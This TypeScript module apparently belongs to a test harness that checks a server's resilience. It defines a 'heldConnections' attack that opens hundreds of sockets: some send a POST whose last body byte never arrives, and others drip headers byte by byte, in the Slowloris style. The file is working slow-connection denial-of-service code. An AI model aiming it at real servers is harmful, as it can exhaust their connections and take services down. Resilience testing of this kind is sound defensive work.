import { API_PREFIXES, PATHS } from '@droptally/proto/api/paths';
import type { Attack } from '../attack.ts';
import { drip, keepDialling } from '../dial.ts';

const LENGTH = 4_000_000;
const HEAD = `POST ${API_PREFIXES[0]}${PATHS.reportBatch} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${LENGTH}\r\n\r\n`;
const ALL_BUT_ONE = Buffer.alloc(LENGTH - 1, ' ');
const DRIP_EVERY_MS = 1_000;

/** Bodies whose last byte never arrives, and headers sent byte by byte. */
export const heldConnections: Attack = {
  counts: 'connections that were held for a second',
  atLeast: 100,
  begin(target) {
    keepDialling(target, 150, (socket) => {
      socket.resume();
      socket.write(HEAD);
      socket.write(ALL_BUT_ONE);
    });
    keepDialling(target, 900, (socket) => {
      socket.resume();
      socket.write('GET / HTTP/1.1\r\nX-Slow: ');
      drip(socket, target, DRIP_EVERY_MS);
    });
  },
};
